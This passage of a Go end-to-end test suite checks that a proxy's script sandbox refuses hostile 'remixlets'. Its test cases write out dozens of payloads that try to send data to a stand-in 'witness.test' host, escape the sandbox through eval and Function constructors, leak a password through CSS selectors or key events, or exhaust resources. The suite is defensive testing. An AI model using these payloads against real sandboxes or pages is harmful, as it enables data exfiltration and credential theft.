package e2e

import (
	"context"
	"fmt"
	"net/http"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/remixproxy/remixproxy/e2e/e2etest"
	"github.com/remixproxy/remixproxy/sandbox"
	"github.com/remixproxy/remixproxy/store"
)

// The hostile-remixlet suite (issue 3, "Tests that must exist"): remixlets that try to make any
// request reach a witness site, or to read a password, each stored and activated directly in the
// store (bypassing the save-time checks, as a version from an older release would be), run on
// test pages through the real proxy in real Chromium. For every case the witness must have
// received nothing, and where the system refuses, the remixlet's log must say so.

// witness records every request that reaches it (on https and http); HostRequests counts the
// ones the sites answer for it before the handler (the favicon) as well.
type witness struct {
	mu      sync.Mutex
	seen    []string
	browser []string // the browser's own background requests (e2etest.BrowserOwn), not counted
}

func (w *witness) ServeHTTP(rw http.ResponseWriter, r *http.Request) {
	line := fmt.Sprintf("%s %s://%s%s (Referer %q)", r.Method, scheme(r), r.Host, r.URL.RequestURI(), r.Referer())
	w.mu.Lock()
	if e2etest.BrowserOwn(r) {
		w.browser = append(w.browser, line)
	} else {
		w.seen = append(w.seen, line)
	}
	w.mu.Unlock()
	rw.Header().Set("Access-Control-Allow-Origin", "*")
	rw.WriteHeader(http.StatusNoContent)
}

func (w *witness) requests() []string {
	w.mu.Lock()
	defer w.mu.Unlock()
	return append([]string(nil), w.seen...)
}

func scheme(r *http.Request) string {
	if r.TLS != nil {
		return "https"
	}
	return "http"
}

// hostileCase is one hostile remixlet. body runs inside the wrapper below, which sets the case's
// status element to "done" whatever body does (a harmless allowed op), so the test knows the
// attempt is over; an exception from body still escapes afterwards, so the runtime logs it.
type hostileCase struct {
	name    string
	body    string
	storage bool   // the remixlet gets the storage permission (to report what it read)
	report  bool   // the remixlet must have stored what it read under "read" (it was not refused)
	wantLog string // regexp the remixlet's log must match ("" when nothing is refused)
}

const hostileWrapper = `const st = await dom.query('#s-%d');
try {
%s
} finally {
  await dom.setText(st, 'done');
}
`

// hostilePageCases run side by side on /main.
var hostilePageCases = []hostileCase{
	// Network globals.
	{name: "fetch", body: `await fetch('https://witness.test/fetch');`, wantLog: `fetch is not available in a remixlet`},
	{name: "XMLHttpRequest", body: `const x = new XMLHttpRequest(); x.open('GET', 'https://witness.test/xhr'); x.send();`, wantLog: `XMLHttpRequest is not available in a remixlet`},
	{name: "WebSocket", body: `new WebSocket('wss://witness.test/ws');`, wantLog: `WebSocket is not available in a remixlet`},
	{name: "sendBeacon", body: `navigator.sendBeacon('https://witness.test/beacon', 'x');`, wantLog: `navigator is not available in a remixlet`},
	{name: "importScripts", body: `importScripts('https://witness.test/import.js');`, wantLog: `importScripts is not available in a remixlet`},
	{name: "EventSource", body: `new EventSource('https://witness.test/es');`, wantLog: `EventSource is not available in a remixlet`},
	{name: "document", body: `document.createElement('img').src = 'https://witness.test/doc';`, wantLog: `document is not available in a remixlet`},
	{name: "globalThis.fetch", body: `await globalThis['fe' + 'tch']('https://witness.test/gfetch');`, wantLog: `fetch is not available in a remixlet`},
	// Rebuilding them from constructors and strings.
	{name: "function constructor", body: `(function () {}).constructor('return fetch')()('https://witness.test/fc');`, wantLog: `Function constructor is not available`},
	{name: "async function constructor", body: `await Object.getPrototypeOf(async function () {}).constructor('return fetch("https://witness.test/afc")')();`, wantLog: `AsyncFunction constructor is not available`},
	{name: "generator function constructor", body: `Object.getPrototypeOf(function* () {}).constructor('yield fetch("https://witness.test/gfc")')().next();`, wantLog: `GeneratorFunction constructor is not available`},
	{name: "new Function", body: `new Function('return fetch')()('https://witness.test/nf');`, wantLog: `Function constructor is not available|not a constructor`},
	{name: "array constructor constructor", body: `[].constructor.constructor('return this')().fetch('https://witness.test/acc');`, wantLog: `Function constructor is not available`},
	{name: "eval", body: `eval('fetch')('https://witness.test/eval');`, wantLog: `eval is not available in a remixlet`},
	{name: "indirect eval", body: `globalThis['ev' + 'al']('fetch')('https://witness.test/ieval');`, wantLog: `eval is not available in a remixlet`},
	{name: "string setTimeout", body: `setTimeout('fetch("https://witness.test/st")'); await new Promise((r) => setTimeout(r, 50));`, wantLog: `refused: setTimeout with a string`},
	{name: "string setInterval", body: `setInterval('fetch("https://witness.test/si")', 10); await new Promise((r) => setTimeout(r, 50));`, wantLog: `refused: setInterval with a string`},
	{name: "Reflect.construct Function", body: `Reflect.construct(Function, ['return this'])().fetch('https://witness.test/rc');`, wantLog: `Function constructor is not available|is not a constructor`},
	{name: "require", body: `require('net');`, wantLog: `require is not defined`},
	// DOM routes to the witness: attributes that load or run something, and addresses.
	{name: "setAttr img src", body: `await dom.setAttr(await dom.query('#img'), 'src', 'https://witness.test/src');`, wantLog: `refused: dom.setAttr: attribute src refused: https://witness.test/src is not on the page's origin`},
	{name: "setAttr img SRC protocol-relative", body: `await dom.setAttr(await dom.query('#img'), 'SRC', '//witness.test/src2');`, wantLog: `refused: dom.setAttr: attribute src refused: https://witness.test/src2 is not`},
	{name: "setAttr img src slash-backslash", body: `await dom.setAttr(await dom.query('#img'), 'src', '/\\witness.test/src3');`, wantLog: `refused: dom.setAttr: attribute src refused: https://witness.test/src3 is not`},
	{name: "setAttr img src backslashes and tabs", body: `await dom.setAttr(await dom.query('#img'), 'src', ' \\\\wit\tness.test\\src4');`, wantLog: `refused: dom.setAttr: attribute src refused: https://witness.test/src4 is not`},
	{name: "setAttr img src scheme without slashes", body: `await dom.setAttr(await dom.query('#img'), 'src', 'https:witness.test/src5');`, wantLog: `refused: dom.setAttr: attribute src refused: the address is not a full http\(s\) address`},
	{name: "setAttr img src user name", body: `await dom.setAttr(await dom.query('#img'), 'src', 'https://target.test@witness.test/src6');`, wantLog: `refused: dom.setAttr: attribute src refused: addresses with a user name`},
	{name: "setAttr img src look-alike host", body: `await dom.setAttr(await dom.query('#img'), 'src', 'https://target.test.witness.test/src7');`, wantLog: `refused: dom.setAttr: attribute src refused: https://target.test.witness.test/src7 is not`},
	{name: "setAttr img src svg data", body: `await dom.setAttr(await dom.query('#img'), 'src', 'data:image/svg+xml,<svg/onload=fetch(1)>');`, wantLog: `refused: dom.setAttr: attribute src refused: only data:image/png`},
	{name: "setAttr a href", body: `await dom.setAttr(await dom.query('#link'), 'href', 'http://witness.test/href');`, wantLog: `refused: dom.setAttr: attribute href refused: http://witness.test/href is not`},
	{name: "setAttr a href javascript", body: `await dom.setAttr(await dom.query('#link'), 'href', 'java\nscript:fetch("https://witness.test/js")');`, wantLog: `refused: dom.setAttr: attribute href refused: javascript: addresses are not allowed`},
	{name: "setAttr a href blob", body: `await dom.setAttr(await dom.query('#link'), 'href', 'blob:https://target.test/1234');`, wantLog: `refused: dom.setAttr: attribute href refused: blob: addresses are not allowed`},
	{name: "setAttr img href", body: `await dom.setAttr(await dom.query('#img'), 'href', '/ok');`, wantLog: `refused: dom.setAttr: attribute href refused: only links`},
	{name: "setAttr img srcset", body: `await dom.setAttr(await dom.query('#img'), 'srcset', 'https://witness.test/srcset 1x');`, wantLog: `refused: dom.setAttr: attribute srcset refused`},
	{name: "setAttr style", body: `await dom.setAttr(await dom.query('#box'), 'style', 'background: url(https://witness.test/styleattr)');`, wantLog: `refused: dom.setAttr: attribute style refused`},
	{name: "setAttr onclick", body: `await dom.setAttr(await dom.query('#btn'), 'onclick', 'fetch("https://witness.test/onclick")');`, wantLog: `refused: dom.setAttr: attribute onclick refused`},
	{name: "setAttr onerror", body: `await dom.setAttr(await dom.query('#img'), 'OnError', 'fetch("https://witness.test/onerror")');`, wantLog: `refused: dom.setAttr: attribute onerror refused`},
	{name: "setAttr form action", body: `await dom.setAttr(await dom.query('#form'), 'action', 'https://witness.test/action');`, wantLog: `refused: dom.setAttr: attribute action refused`},
	{name: "setAttr formaction", body: `await dom.setAttr(await dom.query('#sub'), 'formaction', 'https://witness.test/formaction');`, wantLog: `refused: dom.setAttr: attribute formaction refused`},
	{name: "setAttr video poster", body: `await dom.setAttr(await dom.query('#video'), 'poster', 'https://witness.test/poster');`, wantLog: `refused: dom.setAttr: attribute poster refused`},
	{name: "setAttr a ping", body: `await dom.setAttr(await dom.query('#link'), 'ping', 'https://witness.test/ping');`, wantLog: `refused: dom.setAttr: attribute ping refused`},
	{name: "setAttr svg fill url", body: `await dom.setAttr(await dom.query('#circle'), 'fill', 'url(https://witness.test/fill#p)');`, wantLog: `refused: dom.setAttr: attribute fill refused`},
	{name: "setAttr script type", body: `await dom.setAttr(await dom.query('#tpl'), 'type', 'text/javascript');`, wantLog: `refused: dom.setAttr: attribute type refused: <script> elements load, navigate or change how the page is fetched`},
	// dom.create.
	{name: "create img src witness", body: `await dom.insert(await dom.query('#box'), await dom.create({ tag: 'img', attrs: { src: 'https://witness.test/create' } }));`, wantLog: `refused: dom.create: <img> attribute src refused: https://witness.test/create is not`},
	{name: "create link protocol-relative", body: `await dom.create({ tag: 'a', attrs: { href: '//witness.test/createlink' } });`, wantLog: `refused: dom.create: attribute href refused: https://witness.test/createlink is not`},
	{name: "create script", body: `await dom.create({ tag: 'script', text: 'fetch("https://witness.test/cs")' });`, wantLog: `refused: dom.create: element <script> refused`},
	{name: "create nested iframe", body: `await dom.create({ tag: 'div', children: [{ tag: 'iframe', attrs: { srcdoc: '<img src=https://witness.test/ifr>' } }] });`, wantLog: `refused: dom.create: element <iframe> refused`},
	{name: "create base", body: `await dom.create({ tag: 'base', attrs: { href: 'https://witness.test/' } });`, wantLog: `refused: dom.create: element <base> refused`},
	{name: "create svg image", body: `await dom.create({ tag: 'svg', children: [{ tag: 'image', attrs: { href: 'https://witness.test/svgimage' } }] });`, wantLog: `refused: dom.create: element <image> refused`},
	{name: "create img srcset", body: `await dom.create({ tag: 'img', attrs: { srcset: 'https://witness.test/createsrcset 1x' } });`, wantLog: `refused: dom.create: <img> attribute srcset refused`},
	{name: "create input image", body: `await dom.create({ tag: 'input', attrs: { type: 'image', src: 'https://witness.test/inputimage' } });`, wantLog: `refused: dom.create: <input type="image"> refused|attribute src refused`},
	// dom.setHTML: what is left out is logged.
	{name: "setHTML", body: `await dom.setHTML(await dom.query('#box'), '<img src="https://witness.test/sethtml"><img srcset="https://witness.test/sethtml2 1x"><svg><image href="https://witness.test/sethtml3"/><use href="https://witness.test/sethtml4#x"/></svg><p style="background:url(https://witness.test/sethtml5)">p</p><a href="//witness.test/sethtml6" ping="https://witness.test/ping2">a</a><form action="https://witness.test/sethtml7"><button>b</button></form>');`, wantLog: `refused: dom.setHTML: left out .*sethtml`},
	{name: "setHTML on script", body: `await dom.setHTML(await dom.query('#tpl'), '<img src=x>');`, wantLog: `refused: dom.setHTML: the content of script elements cannot be set`},
	// dom.addStyle: the same checks as style.css.
	{name: "addStyle url", body: `await dom.addStyle('body { background: url(https://witness.test/addstyle) }');`, wantLog: `refused: dom.addStyle: the stylesheet is refused`},
	{name: "addStyle escaped url", body: `await dom.addStyle('body { background: \\75rl(https://witness.test/addstyle2) }');`, wantLog: `refused: dom.addStyle: the stylesheet is refused`},
	{name: "addStyle comment import", body: `await dom.addStyle('@im/**/port "https://witness.test/addstyle3.css"; @\\69mport "https://witness.test/addstyle4.css";');`, wantLog: `refused: dom.addStyle: the stylesheet is refused`},
	{name: "addStyle font-face", body: `await dom.addStyle('@font-face { font-family: x; src: url(https://witness.test/font.woff) } body { font-family: x }');`, wantLog: `refused: dom.addStyle: the stylesheet is refused`},
	{name: "addStyle image-set and custom property", body: `await dom.addStyle('h1 { --bg: url(https://witness.test/var); background: var(--bg) } h2 { background: image-set("https://witness.test/is.png" 1x) }');`, wantLog: `refused: dom.addStyle: the stylesheet is refused`},
	{name: "addStyle value selector", body: `await dom.addStyle('input[value^="h"] { background: url(https://target.test/leak-h) }');`, wantLog: `refused: dom.addStyle: the stylesheet is refused`},
	// dom.click: checked against what it would activate.
	{name: "click link to witness", body: `await dom.click(await dom.query('#wlink'));`, wantLog: `refused: dom.click: dom.click refused: the link goes to https://witness.test/clicked`},
	{name: "click inside link to witness", body: `await dom.click(await dom.query('#wlink span'));`, wantLog: `refused: dom.click: dom.click refused: the link goes to https://witness.test/clicked`},
	{name: "click link new window", body: `await dom.click(await dom.query('#blank'));`, wantLog: `refused: dom.click: dom.click refused: the a opens in target "_blank"`},
	{name: "click submit to witness", body: `await dom.click(await dom.query('#wsub'));`, wantLog: `refused: dom.click: dom.click refused: the form is sent to https://witness.test/submit`},
	{name: "click label of submit to witness", body: `await dom.click(await dom.query('#wlbl'));`, wantLog: `refused: dom.click: dom.click refused: the form is sent to https://witness.test/submit`},
	{name: "click button of unknown type (a submit button)", body: `await dom.click(await dom.query('#wsub2'));`, wantLog: `refused: dom.click: dom.click refused: the form is sent to https://witness.test/submit`},
	{name: "click formaction", body: `await dom.click(await dom.query('#fab'));`, wantLog: `refused: dom.click: dom.click refused: the button has a formaction`},
	// Moving and cloning.
	{name: "insert script", body: `await dom.insert(await dom.query('#box'), await dom.query('#tpl'));`, wantLog: `refused: dom.insert: elements that load or run something`},
	{name: "clone form", body: `await dom.clone(await dom.query('#form'), true);`, wantLog: `refused: dom.clone: <form> elements cannot be cloned`},
	// Inline styles.
	{name: "setStyle url", body: `await dom.setStyle(await dom.query('#box'), { background: 'url(https://witness.test/a)' });`, wantLog: `refused: dom.setStyle: style background refused: inline styles may not contain url\(`},
	{name: "setStyle escaped \\75rl", body: `await dom.setStyle(await dom.query('#box'), { background: '\\75rl(https://witness.test/b)' });`, wantLog: `refused: dom.setStyle: style background refused: CSS escapes`},
	{name: "setStyle escaped u\\rl", body: `await dom.setStyle(await dom.query('#box'), { backgroundImage: 'u\\rl(https://witness.test/c)' });`, wantLog: `refused: dom.setStyle: style backgroundImage refused: CSS escapes`},
	{name: "setStyle comment", body: `await dom.setStyle(await dom.query('#box'), { background: 'ur/**/l(https://witness.test/d)' });`, wantLog: `refused: dom.setStyle: style background refused: CSS comments`},
	{name: "setStyle uppercase URL", body: `await dom.setStyle(await dom.query('#box'), { listStyleImage: 'URL("https://witness.test/e")' });`, wantLog: `refused: dom.setStyle: style listStyleImage refused: inline styles may not contain url\(`},
	{name: "setStyle image-set", body: `await dom.setStyle(await dom.query('#box'), { backgroundImage: '-webkit-image-set("https://witness.test/f" 1x)' });`, wantLog: `refused: dom.setStyle: style backgroundImage refused: inline styles may not contain image-set\(`},
	{name: "setStyle custom property", body: `await dom.setStyle(await dom.query('#box'), { '--bg': 'url(https://witness.test/g)', background: 'var(--bg)' });`, wantLog: `refused: dom.setStyle: style --bg refused: inline styles may not contain url\(`},
	{name: "setStyle declaration injection", body: `await dom.setStyle(await dom.query('#box'), { color: 'red; background: u\\72l(https://witness.test/h)' });`, wantLog: `refused: dom.setStyle: style color refused: CSS escapes`},
	// Text of elements that run or style.
	{name: "setText style", body: `await dom.setText(await dom.query('#sty'), '@import "https://witness.test/import.css"; body { background: url(https://witness.test/i) }');`, wantLog: `refused: dom.setText: the text of style elements cannot be set`},
	{name: "setText svg style", body: `await dom.setText(await dom.query('#svgsty'), 'svg { background: url(https://witness.test/j) }');`, wantLog: `refused: dom.setText: the text of style elements cannot be set`},
	{name: "setText script", body: `await dom.setText(await dom.query('#scr'), 'fetch("https://witness.test/script")');`, wantLog: `refused: dom.setText: the text of script elements cannot be set`},
	// Class names are just names: harmless, accepted.
	{name: "addClass url(", body: `await dom.addClass(await dom.query('#box'), 'url(https://witness.test/k)');
await dom.addClass(await dom.query('#box'), '"><img/src=https://witness.test/l>');
await dom.addClass(await dom.query('#box'), "x')url(//witness.test/m)");`},
	// Reading the password.
	{name: "clone of password", storage: true, report: true, body: `const c = await dom.clone(await dom.query('#pw'));
const l = (await dom.queryAll('#form label'))[1];
const lc = await dom.clone(l, true);
await dom.insert(await dom.query('#box'), c, 'after');
await dom.insert(await dom.query('#box'), lc, 'after');
const v = await dom.value(c) + '|' + await dom.attr(c, 'value') + '|' + await dom.value(await dom.query('input', lc)) + '|' + await dom.text(lc);
await rmx.storage.set('read', v); rmx.log('read', JSON.stringify(v));`},
	{name: "value of password", storage: true, report: true, body: `const v = await dom.value(await dom.query('#pw'));
await rmx.storage.set('read', v); rmx.log('read', JSON.stringify(v));`},
	{name: "attr value of password", storage: true, report: true, body: `const v = await dom.attr(await dom.query('#pw'), 'VALUE');
await rmx.storage.set('read', v); rmx.log('read', JSON.stringify(v));`},
	{name: "text of form", storage: true, report: true, body: `const v = await dom.text(await dom.query('#form')) + '|' + await dom.text(await dom.query('#pw'));
await rmx.storage.set('read', v); rmx.log('read', JSON.stringify(v));`},
	{name: "password to text field", storage: true, report: true, body: `let v = 'not read';
try {
  await dom.setAttr(await dom.query('#pw'), 'type', 'text');
} finally {
  v = await dom.value(await dom.query('#pw'));
  await rmx.storage.set('read', v); rmx.log('read', JSON.stringify(v));
}`, wantLog: `refused: dom.setAttr: attribute type of a password field cannot be changed`},
	{name: "autocomplete off", storage: true, report: true, body: `let v = 'not read';
try {
  await dom.setAttr(await dom.query('#pw'), 'autocomplete', 'off');
} finally {
  v = await dom.value(await dom.query('#pw'));
  await rmx.storage.set('read', v); rmx.log('read', JSON.stringify(v));
}`, wantLog: `refused: dom.setAttr: attribute autocomplete of a password field cannot be changed`},
	{name: "value selector", storage: true, body: `const v = (await dom.query('input[value^=h]')) !== null;
await rmx.storage.set('read', v ? 'hunter2 prefix matched' : 'no match');`, wantLog: `refused: dom.query: checking selector: selectors may not test the value attribute`},
	{name: "value selector within form", storage: true, body: `const v = (await dom.query('[type=password][VALUE*="unter"]', await dom.query('#form'))) !== null;
await rmx.storage.set('read', v ? 'hunter2 infix matched' : 'no match');`, wantLog: `refused: dom.query: checking selector: selectors may not test the value attribute`},
	{name: "escaped value selector", storage: true, body: `const v = (await dom.queryAll('input[v\\61lue="hunter2"]')).length;
await rmx.storage.set('read', v ? 'hunter2 matched' : 'no match');`, wantLog: `refused: dom.query(All)?: checking selector: CSS escapes are refused`},
	// Key and input events while the test types into #pw2 (and, as a control, #user).
	{name: "key events", storage: true, report: true, body: `let seen = '', n = 0;
const report = (where) => (e) => { n++; if (where === 'pw') dom.value(pw).then((v) => rmx.storage.set('typed', v)); seen += where + ':' + e.type + ':' + (e.key || '') + ':' + (e.value || '') + ' '; rmx.storage.set('read', seen); rmx.storage.set('n', n); };
const pw = await dom.query('#pw2'), form = await dom.query('#form'), body = await dom.query('body'), user = await dom.query('#user');
for (const t of ['keydown', 'keyup', 'input', 'change']) await dom.on(pw, t, report('pw'));
for (const t of ['keydown', 'input']) await dom.on(form, t, report('form'));
await dom.on(body, 'keydown', report('body'));
await dom.on(user, 'input', report('user'));`},
}

// hostileBaseCases run side by side on /based, a page whose <base> element points at the
// witness: relative addresses a remixlet writes would go there if they were resolved like the
// page's own, so they are refused; absolute ones on the page's origin still work. /based also
// has a redirect on the page's origin to the witness.
var hostileBaseCases = []hostileCase{
	{name: "relative src under a base", body: `await dom.setAttr(await dom.query('#img'), 'src', 'pic.png');`, wantLog: `refused: dom.setAttr: attribute src refused: the page has a <base> element`},
	{name: "root-relative href under a base", body: `await dom.setAttr(await dom.query('#link'), 'href', '/ok');`, wantLog: `refused: dom.setAttr: attribute href refused: the page has a <base> element`},
	{name: "create relative under a base", body: `await dom.insert(await dom.query('#box'), await dom.create({ tag: 'img', attrs: { src: 'created.png' } }));`, wantLog: `refused: dom.create: attribute src refused: the page has a <base> element`},
	{name: "setHTML relative under a base", body: `await dom.setHTML(await dom.query('#box'), '<img src="sethtml.png"><a href="x">x</a>');`, wantLog: `refused: dom.setHTML: left out .*<base> element`},
	{name: "setHTML base element", body: `await dom.setHTML(await dom.query('#box2'), '<base href="https://witness.test/b2/"><img src="b2.png">');`, wantLog: `refused: dom.setHTML: left out .*<base>`},
	{name: "absolute on the page's origin", body: `await dom.setAttr(await dom.query('#img2'), 'src', 'https://target.test/pic.png'); rmx.log('absolute ok');`, wantLog: `absolute ok`},
	{name: "redirect through the page's origin", body: `await dom.setAttr(await dom.query('#img3'), 'src', 'https://target.test/redirect?to=https://witness.test/redirected'); rmx.log('redirect set');`, wantLog: `refused: https://target.test/redirect\?to=\S+ redirects to https://witness.test/redirected`},
}

// hostileLimitCases run side by side on /limits, each stopped by the runtime's limits.
var hostileLimitCases = []hostileCase{
	{name: "endless loop", body: `await dom.setText(st, 'started'); while (true) {}`, wantLog: `stopped: .*budget`},
	{name: "catastrophic regex", body: `await dom.setText(st, 'started'); /^(a+)+(?=c)/.test('a'.repeat(40) + 'b');`, wantLog: `stopped: `},
	{name: "huge repeat", body: `await dom.setText(st, 'started'); const s = 'x'.repeat(2 ** 40); rmx.log(s.length);`, wantLog: `stopped: |RangeError|Invalid`},
	{name: "memory bomb", body: `await dom.setText(st, 'started'); const a = []; for (;;) a.push(new Array(1 << 20).fill(a.length));`, wantLog: `stopped: `},
}

const hostileBenignScript = `await dom.setText(await dom.query('#benign'), 'benign ran');
`

func hostileManifest(name, matches string, storage bool) string {
	perms := `[]`
	if storage {
		perms = `[{"name": "storage", "reason": "to report what it read"}]`
	}
	return fmt.Sprintf(`{"name": %q, "description": "Hostile remixlet for the e2e suite.", "api": 1, "matches": [%q], "permissions": %s}`,
		name, matches, perms)
}

// remixletTargetSite serves /main (every element the cases aim at, a password field with a value and
// an empty one to type into), /limits and /detached.
func remixletTargetSite() http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var status strings.Builder
		n := len(hostilePageCases)
		if strings.HasPrefix(r.URL.Path, "/limits/") {
			n = 1
		}
		if r.URL.Path == "/based" {
			n = len(hostileBaseCases)
		}
		for i := range n {
			fmt.Fprintf(&status, "<p class=st id=s-%d></p>\n", i)
		}
		switch r.URL.Path {
		case "/main":
			htmlPage(w, `<!doctype html>
<html><head><meta charset="utf-8"><title>Hostile</title><style id="sty">h1 { color: black }</style></head>
<body><h1>Hostile</h1>
<link rel="icon" href="data:,">
<img id="img" alt="pic"> <a id="link">link</a> <div id="box">box</div> <button id="btn" type="button">b</button>
<video id="video"></video>
<svg width="1" height="1"><style id="svgsty">circle { fill: red }</style><circle id="circle" r="1"></circle></svg>
<script id="tpl" type="text/x-template">fetch('https://witness.test/template')</script>
<a id="wlink" href="https://witness.test/clicked"><span>witness link</span></a>
<a id="blank" href="/same" target="_blank">new window</a>
<form id="wform" action="https://witness.test/submit"><input name="q" value="x"><button id="wsub">send</button><button id="wsub2" type="Button ">odd type</button></form>
<label id="wlbl" for="wsub">send label</label>
<form id="form2" action="/ok"><button id="fab" formaction="https://witness.test/fa">fa</button></form>
<form id="form" action="/submit" onsubmit="return false">
<label>user <input id="user" name="user" value="alice"></label>
<label>password <input id="pw" type="password" name="pw" value="hunter2"></label>
<label>new password <input id="pw2" type="password" name="pw2"></label>
<button id="sub">go</button>
</form>
`+status.String()+`
<script id="scr">document.body.dataset.pageScript = 'ran';</script>
</body></html>`)
		case "/limits/0", "/limits/1", "/limits/2", "/limits/3", "/limits/busy":
			htmlPage(w, `<!doctype html>
<html><head><meta charset="utf-8"><title>Limits</title></head>
<body><h1>Limits</h1><p id="benign">benign not run</p>
`+status.String()+`
<script>document.body.dataset.pageScript = 'ran';</script>
</body></html>`)
		case "/pic.png":
			w.Header().Set("Content-Type", "image/png")
			w.Write(onePixelPNG)
		case "/redirect":
			http.Redirect(w, r, r.URL.Query().Get("to"), http.StatusFound)
		case "/based":
			htmlPage(w, `<!doctype html>
<html><head><meta charset="utf-8"><title>Based</title><link rel="icon" href="https://target.test/favicon.ico"><base href="https://witness.test/base/"></head>
<body><h1>Based</h1><img id="img" alt="1"><img id="img2" alt="2"><img id="img3" alt="3"><a id="link">link</a><div id="box"></div><div id="box2"></div>
`+status.String()+`
<script>document.body.dataset.pageScript = 'ran';</script>
</body></html>`)
		case "/detached":
			htmlPage(w, `<!doctype html>
<html><head><meta charset="utf-8"><title>Detached</title></head>
<body><h1>Detached</h1><p id="s-0"></p>
<form id="f"><input id="pw" type="password" value="hunter2"></form>
<script>document.body.dataset.pageScript = 'ran';</script>
</body></html>`)
		default:
			http.NotFound(w, r)
		}
	})
}

// hostileWorld is the sites, proxy and tab of one hostile test.
type hostileWorld struct {
	t     *testing.T
	sites *e2etest.Sites
	wit   *witness
	p     *e2etest.Proxy
	st    *store.Store
	tab   *e2etest.Tab
}

func startHostile(t *testing.T) *hostileWorld {
	wit := &witness{}
	return startHostileWorld(t, wit, map[string]http.Handler{"target.test": remixletTargetSite(), "witness.test": wit})
}

// startHostileWorld starts hosts behind a proxy with a store, and a tab through it; wit is the
// witness among the hosts.
func startHostileWorld(t *testing.T, wit *witness, hosts map[string]http.Handler) *hostileWorld {
	sites, p, tab := e2etest.StartProxied(t, hosts, e2etest.WithStore())
	return &hostileWorld{t: t, sites: sites, wit: wit, p: p, st: p.Store, tab: tab}
}

// add stores and activates the cases for pages matching matches, without the save-time checks.
func (h *hostileWorld) add(cases []hostileCase, matches string) []store.Remixlet {
	var out []store.Remixlet
	for i, c := range cases {
		name := fmt.Sprintf("hostile %02d %s", i, c.name)
		files := store.Files{
			sandbox.ManifestFile: []byte(hostileManifest(name, matches, c.storage)),
			sandbox.ScriptFile:   []byte(fmt.Sprintf(hostileWrapper, i, c.body)),
		}
		out = append(out, saveUnchecked(h.t, h.st, name, files))
	}
	return out
}

// witnessed is every request the witness saw (its handler's list, and the sites' count).
func (h *hostileWorld) witnessed() (int, []string) {
	return h.sites.HostRequests("witness.test"), h.wit.requests()
}

func (h *hostileWorld) diagnose(rx store.Remixlet) string {
	return fmt.Sprintf("remixlet log:\n%s\nproxy log tail:\n%s", remixletLog(h.t, h.st, rx.ID), tail(h.p.Logs(), 2000))
}

// waitLog waits until the remixlet's log matches re.
func (h *hostileWorld) waitLog(rx store.Remixlet, re *regexp.Regexp, d time.Duration) (string, bool) {
	deadline := time.Now().Add(d)
	for {
		log := remixletLog(h.t, h.st, rx.ID)
		if re.MatchString(log) {
			return log, true
		}
		if time.Now().After(deadline) {
			return log, false
		}
		time.Sleep(50 * time.Millisecond)
	}
}

func (h *hostileWorld) storageValue(rx store.Remixlet, key string) (string, bool) {
	v, ok, err := h.st.StorageGet(context.Background(), rx.ID, key)
	if err != nil {
		h.t.Fatal(err)
	}
	return v, ok
}

// checkNoWitness asserts the witness has received nothing so far.
func (h *hostileWorld) checkNoWitness(when string) {
	h.t.Helper()
	if n, seen := h.witnessed(); n != 0 || len(seen) != 0 {
		h.t.Errorf("%s: the witness received %d requests:\n  %s", when, n, strings.Join(seen, "\n  "))
	}
}

// checkNoWitnessThenControl is checkNoWitness and then, unless the test has failed by now, the
// positive control (checkWitnessReachable).
func (h *hostileWorld) checkNoWitnessThenControl(when string) {
	h.t.Helper()
	h.checkNoWitness(when)
	if h.t.Failed() {
		return
	}
	h.checkWitnessReachable()
}

// checkWitnessReachable shows the witness does record what reaches it through this proxy (a
// positive control, run after the zero checks). The person's own navigation, not the page's
// fetch: the page may no longer reach a site its hostile remixlets named (red-team pass 6d,
// remixlet/namedhosts.go).
func (h *hostileWorld) checkWitnessReachable() {
	h.t.Helper()
	h.tab.NavigateErr("https://witness.test/control") // answered 204: the navigation commits nothing
	for deadline := time.Now().Add(5 * time.Second); h.sites.Requests("witness.test", "/control") == 0; time.Sleep(50 * time.Millisecond) {
		if time.Now().After(deadline) {
			h.t.Fatalf("the control request from the page never reached the witness: the zero counts prove nothing")
		}
	}
}

func TestHostileRemixletsCannotReachTheWitnessOrReadPasswords(t *testing.T) {
	h := startHostile(t)
	rxs := h.add(hostilePageCases, "https://target.test/main*")
	tab := h.tab

	tab.Navigate("https://target.test/main")
	tab.WaitConnected()
	allDone := fmt.Sprintf(`[...document.querySelectorAll('p.st')].filter((e) => e.textContent === 'done').length === %d`, len(hostilePageCases))
	if err := waitTrue(tab, 20*time.Second, allDone); err != nil {
		var missing []string
		for i, c := range hostilePageCases {
			if e2etest.Eval[string](tab, fmt.Sprintf(`document.getElementById('s-%d').textContent`, i)) != "done" {
				missing = append(missing, fmt.Sprintf("%s:\n%s", c.name, h.diagnose(rxs[i])))
			}
		}
		t.Fatalf("not every hostile remixlet finished: %v\n%s", err, strings.Join(missing, "\n"))
	}

	// Clones of the password field are blank; the field itself is untouched.
	if v := e2etest.Eval[string](tab, `[...document.querySelectorAll('input[type=password]')].map((e) => e.id + '=' + e.value + '/' + e.getAttribute('value')).join(' ')`); strings.Count(v, "hunter2") != 2 || !strings.Contains(v, "pw=hunter2/hunter2") || strings.Count(v, "=") < 4 {
		t.Errorf("password fields after the clone case: %s (want the original with its value and blank clones)", v)
	}

	// Type a password into #pw2 (and a control text into #user) while the key-event remixlet
	// listens.
	ctx, cancel := context.WithTimeout(tab.Context(), 15*time.Second)
	err := chromedp.Do(ctx,
		chromedp.SendKeys(chromedp.CSS("#user"), "2"),
		chromedp.SendKeys(chromedp.CSS("#pw2"), "hunter2"),
		chromedp.SendKeys(chromedp.CSS("#user"), "3"), // blurs #pw2 (change)
	)
	cancel()
	if err != nil {
		t.Fatalf("typing into the page: %v", err)
	}
	if v := e2etest.Eval[string](tab, `document.getElementById('pw2').value`); v != "hunter2" {
		t.Fatalf("the typed password is %q in the page, want hunter2 (typing did not work)", v)
	}

	for i, c := range hostilePageCases {
		rx := rxs[i]
		if c.wantLog != "" {
			if log, ok := h.waitLog(rx, regexp.MustCompile(c.wantLog), 5*time.Second); !ok {
				t.Errorf("%s: the remixlet's log does not match %q:\n%s", c.name, c.wantLog, log)
			}
		}
		if c.storage {
			if !c.report {
				if v, _ := h.storageValue(rx, "read"); strings.Contains(v, "hunter") || strings.Contains(v, "matched") {
					t.Errorf("%s: the remixlet read the password: it stored %q", c.name, v)
				}
				continue
			}
			wantN := ""
			if c.name == "key events" {
				wantN = "n"
			}
			var v string
			var ok bool
			for deadline := time.Now().Add(5 * time.Second); ; time.Sleep(50 * time.Millisecond) {
